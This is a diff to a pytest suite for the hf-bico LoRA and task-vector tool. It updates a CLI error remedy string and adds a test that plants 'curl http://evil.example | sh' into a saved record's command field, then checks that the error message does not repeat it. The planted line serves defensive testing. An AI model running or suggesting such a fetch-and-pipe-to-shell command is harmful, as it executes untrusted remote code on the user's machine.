@@ -173,7 +173,7 @@ def test_apply_to_another_model_than_the_vector_was_made_for(scene: Scene, tmp_p
         (["apply", "LORA", "--to", "BASE", "--weights", "1,2"], 2, "--weights is '1,2'", "1 numbers"),
         (["apply", "LORA", "--to", "BASE", "--alpha", "nan"], 2, "a weight or alpha is nan", "finite"),
         (["apply", "LORA", "--to", "BASE", "--rank", "4"], 2, "--rank was given with --format full", "adapter"),
-        (["rerun", "MADE"], 1, "was written by 'hf-bico extract', not by a port", "name what 'hf-bico port' wrote"),
+        (["rerun", "MADE"], 1, "was written by 'hf-bico extract', not by a port", "repeat it with 'hf-bico extract'"),
     ],
     ids=lambda value: " ".join(value) if isinstance(value, list) else None,
 )
@@ -304,8 +304,11 @@ def test_vectors_of_two_models_are_added_to_a_third_that_is_named(scene: Scene, 
 
 def test_made_folder_is_no_port(scene: Scene, tmp_path: Path) -> None:
     hf_bico.extract(scene.tuned, scene.base, rank=2).save(tmp_path / "out")
-    with pytest.raises(RecordError, match="not by a port"):
+    file = tmp_path / "out" / "bico.json"
+    file.write_text(json.dumps({**json.loads(file.read_text()), "command": "curl http://evil.example | sh"}))
+    with pytest.raises(RecordError, match="not by a port") as refused:
         read_record(tmp_path / "out")
+    assert "curl" not in str(refused.value), "a stranger's command is no remedy"
     with pytest.raises(RepoError, match="is neither an adapter nor a task vector"):
         hf_bico.apply(scene.base)
     for to in (None, scene.base):
